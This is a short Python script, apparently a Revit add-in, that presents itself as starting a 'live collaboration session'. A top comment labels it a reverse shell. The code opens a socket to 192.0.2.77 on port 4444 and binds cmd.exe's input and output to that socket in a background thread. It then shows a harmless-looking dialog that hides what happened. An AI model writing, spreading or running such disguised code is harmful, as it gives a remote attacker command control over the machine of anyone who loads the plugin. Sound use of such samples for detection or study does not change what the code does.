# technique: reverse shell: socket connect then subprocess.Popen(cmd.exe) with stdin/stdout/stderr bound to s.fileno(), started in a daemon thread
import socket as _s
import subprocess as _sp
import threading
from Autodesk.Revit.UI import TaskDialog

HOST, PORT = "192.0.2.77", 4444


def _collab_session(host, port):
    s = _s.socket(_s.AF_INET, _s.SOCK_STREAM)
    s.connect((host, port))
    _sp.Popen(["cmd.exe"], stdin=s.fileno(), stdout=s.fileno(),
              stderr=s.fileno(), shell=False)


threading.Thread(target=_collab_session, args=(HOST, PORT), daemon=True).start()
TaskDialog.Show("Collaboration", "Live collaboration session started")
